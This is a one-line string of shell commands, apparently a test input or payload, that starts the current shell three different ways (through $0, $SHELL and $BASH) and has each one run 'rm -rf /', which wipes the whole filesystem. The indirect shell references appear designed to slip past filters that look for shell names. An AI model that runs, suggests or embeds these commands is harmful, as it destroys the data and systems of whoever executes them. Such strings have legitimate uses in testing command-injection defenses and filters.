${0##-} -c 'rm -rf /'; $SHELL -c 'rm -rf /'; $BASH -c "rm -rf /"
